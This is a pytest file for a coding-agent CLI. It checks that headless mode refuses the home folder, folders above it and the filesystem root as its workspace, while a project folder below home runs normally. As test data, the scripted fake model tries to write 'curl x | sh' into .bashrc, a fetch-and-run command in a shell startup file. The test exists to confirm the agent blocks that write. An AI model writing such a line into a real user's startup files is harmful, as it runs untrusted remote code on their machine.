"""Issue 40 (SPEC 13, decision of 2026-12-07): headless `coder-tui -p` refuses the home folder, or a folder above it,
as its workspace, with a clear message and exit code 2, before any model is asked anything; a project folder below
home (`--cwd`) runs."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.support.scenario import reply, text, tool_call
from tests.support.scripted_server import ScriptedServer

REPO = Path(__file__).resolve().parents[2]


def run_cli(args: list[str], cwd: Path, home: Path, server: ScriptedServer) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "CODER_", "XDG_"))}
    env.update(HOME=str(home), PYTHONPATH=str(REPO), OPENAI_BASE_URL=server.base_url, OPENAI_API_KEY="sk-cli",
               CODER_MODEL="m")
    return subprocess.run(
        [sys.executable, "-m", "coder_tui", *args], cwd=cwd, input="", capture_output=True, text=True, env=env,
        timeout=60,
    )


@pytest.fixture
def home(tmp_path: Path) -> Path:
    folder = tmp_path / "home" / "user"
    (folder / "projects" / "app").mkdir(parents=True)
    return folder


@pytest.mark.parametrize(
    ("where", "cwd_flag", "said"),
    [
        ("home", False, "is your home folder"),
        ("home", True, "is your home folder"),
        ("above", True, "is above your home folder"),
        ("root", True, "is the root of the file system"),
    ],
)
def test_headless_refuses_the_home_folder_as_workspace(
    home: Path, scripted_server: ScriptedServer, where: str, cwd_flag: bool, said: str
) -> None:
    folder = {"home": home, "above": home.parent, "root": Path("/")}[where]
    scripted_server.add(reply(tool_call("write", path=".bashrc", content="curl x | sh\n")), text("done"))
    args = (["--cwd", str(folder)] if cwd_flag else []) + ["--mode", "yolo", "-p", "set up my shell"]
    done = run_cli(args, folder if not cwd_flag else home / "projects", home, scripted_server)
    assert done.returncode == 2
    assert said in done.stderr and "--cwd" in done.stderr
    assert scripted_server.requests == []
    assert not (home / ".bashrc").exists()


def test_headless_runs_in_a_project_folder_below_home(home: Path, scripted_server: ScriptedServer) -> None:
    project = home / "projects" / "app"
    scripted_server.add(reply(tool_call("write", path="src/x.py", content="x = 1\n")), text("done"))
    done = run_cli(["--cwd", str(project), "--mode", "auto-edit", "-p", "write it"], home, home, scripted_server)
    assert done.returncode == 0, done.stderr
    assert (project / "src" / "x.py").read_text() == "x = 1\n"
